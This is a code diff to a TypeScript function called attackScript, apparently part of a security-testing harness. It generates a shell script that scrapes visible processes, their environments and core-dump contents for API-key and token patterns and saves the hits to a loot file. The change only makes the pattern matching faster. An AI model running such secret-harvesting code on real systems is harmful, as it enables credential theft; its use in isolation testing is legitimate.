@@ -139,7 +139,9 @@ function attackScript(options: {
   return String.raw`D="$PWD/${LOOT_FILE}"; T="$(mktemp -d)"
 P='[A-Za-z0-9+/]{43}=|[A-Za-z][A-Za-z0-9-]*_[0-9a-f]{36}'
 say() { echo "$*"; echo "$*" >> "$D"; }
-hits() { grep -a -o -E "$P" 2>/dev/null | sort -u | sed 's/^/hit /' >> "$D"; }
+# Each character no secret holds ends a line first: the same matches, in a fraction of the time grep
+# takes over a core dump's pages of zeros read as one line.
+hits() { tr -cs 'A-Za-z0-9+/=_-' '\n' | grep -a -o -E "$P" 2>/dev/null | sort -u | sed 's/^/hit /' >> "$D"; }
 ${pids}
 say "attack ran as uid $(id -u), $(ls -d /proc/[0-9]* | wc -l) processes visible"
 # Every visible process's command line and environment.
